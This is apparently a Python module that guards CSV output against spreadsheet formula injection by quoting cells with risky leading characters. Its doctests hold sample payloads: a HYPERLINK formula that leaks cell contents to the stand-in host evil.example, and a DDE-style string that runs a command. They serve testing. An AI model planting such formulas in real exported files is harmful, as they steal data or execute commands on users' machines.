"""Every CSV linkwatch writes goes through here, so none can carry a live spreadsheet formula.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as
a formula by Excel, LibreOffice and Google Sheets (OWASP "CSV Injection"): a subject named
``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` would leak the sheet when clicked. Such a
cell gets a leading single quote, which makes the spreadsheet take it as text; nothing else of
the text changes, so the quote is the only thing a reader has to strip. The fullwidth forms
``＝ ＋ － ＠`` get one too (some spreadsheets fold them to ASCII).

Choice: a cell that is a plain decimal number (``-1.5``, ``-0.100200``, ``+447700900123``,
``1e-3``) is left as it is. No formula can hide in one, and numbers stay numbers: a longitude
west of Greenwich still reads as a longitude, so the canonical files ``linkwatch synth`` writes
still load. ``-1+1`` or ``-2-cmd`` is not a plain number and is quoted.

Quoting of the CSV itself is the csv module's (minimal, ``"`` doubled), so a cell holding a
comma or a newline stays one cell. Rows end in ``\\r\\n`` unless the caller asks otherwise.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

import pyarrow as pa
import pyarrow.compute as pc

#: First characters that make a spreadsheet evaluate a cell (ASCII and fullwidth).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

_LEAD = "[=+\\-@\\t\\r\uff1d\uff0b\uff0d\uff20]"
_NUMBER = "[+-]?(?:[0-9]+\\.?[0-9]*|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_PLAIN_NUMBER = re.compile(_NUMBER)

Row = Mapping[str, Any] | Sequence[Any]


def neutralise(value: Any) -> str:
    """The text of one cell, with a leading quote if a spreadsheet would run it as a formula.

    Args:
        value: the cell; ``None`` is an empty cell, anything else is ``str(value)`` (format
            dates and booleans before, if ``str`` is not what the column wants).

    Returns:
        The cell's text, prefixed with ``'`` when it starts with one of :data:`FORMULA_LEADS`
        and is not a plain decimal number.

    >>> neutralise('=HYPERLINK("http://evil.example/?leak="&A1,"x")')
    '\\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    >>> neutralise("@SUM(1+1)*cmd|' /C calc'!A0")
    "'@SUM(1+1)*cmd|' /C calc'!A0"
    >>> neutralise("-1+1"), neutralise("\\t=1"), neutralise("\uff1d1+1")
    ("'-1+1", "'\\t=1", "'\uff1d1+1")
    >>> neutralise(-1.5), neutralise("-0.100200"), neutralise(None), neutralise("Adam")
    ('-1.5', '-0.100200', '', 'Adam')
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_LEADS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_rows(
    stream: TextIO,
    header: Sequence[str],
    rows: Iterable[Row],
    *,
    lineterminator: str = "\r\n",
) -> int:
    """Write a header and rows as CSV to ``stream``, every cell through :func:`neutralise`.

    Args:
        stream: a text stream opened with ``newline=""`` (or ``sys.stdout``, a ``StringIO``).
        header: the column names, in order.
        rows: dicts (read by column name; missing keys are empty cells and other keys are
            ignored) or sequences already in column order.
        lineterminator: what ends each row.

    Returns:
        The number of rows written, header not counted.
    """
    writer = csv.writer(stream, lineterminator=lineterminator)
    writer.writerow([neutralise(c) for c in header])
    n = 0
    for row in rows:
        cells = [row.get(c) for c in header] if isinstance(row, Mapping) else row
        writer.writerow([neutralise(v) for v in cells])
        n += 1
    return n


def to_text(header: Sequence[str], rows: Iterable[Row], *, lineterminator: str = "\r\n") -> str:
    """The CSV as one string (for a web response); arguments as :func:`write_rows`.

    >>> to_text(["id", "name"], [{"id": "S1", "name": "=1+1"}, ["S2", "Ann, Lee"]])
    'id,name\\r\\nS1,\\'=1+1\\r\\nS2,"Ann, Lee"\\r\\n'
    """
    out = io.StringIO()
    write_rows(out, header, rows, lineterminator=lineterminator)
    return out.getvalue()


def write_table(
    stream: TextIO, table: pa.Table, *, header: bool = True, lineterminator: str = "\r\n"
) -> int:
    """Write a pyarrow table as CSV, its text columns neutralised in bulk (for big files).

    The same rule as :func:`neutralise`, computed column by column in Arrow; the text comes
    out as pandas writes it (minimal quoting, nulls as empty cells).

    Args:
        stream: a text stream opened with ``newline=""``.
        table: the rows; text columns are checked, other types are written as they are.
        header: whether to write the column names first.
        lineterminator: what ends each row.

    Returns:
        The number of rows written, header not counted.

    >>> out = io.StringIO()
    >>> write_table(out, pa.table({"id": ["S1", "S2"], "lon": ["-0.1", "@x"]}))
    2
    >>> out.getvalue()
    "id,lon\\r\\nS1,-0.1\\r\\nS2,'@x\\r\\n"
    """
    columns = {}
    for name, column in zip(table.column_names, table.columns, strict=True):
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            column = _neutralise_column(column)
        columns[name] = column
    names = [neutralise(n) for n in table.column_names]
    frame = pa.table(columns).to_pandas()
    frame.to_csv(
        stream, index=False, header=names if header else False, lineterminator=lineterminator
    )
    return table.num_rows


def _neutralise_column(column: pa.ChunkedArray) -> pa.ChunkedArray:
    risky = pc.match_substring_regex(column, "^" + _LEAD)
    if not pc.any(risky).as_py():
        return column
    risky = pc.and_not(risky, pc.match_substring_regex(column, f"^{_NUMBER}$"))
    return pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
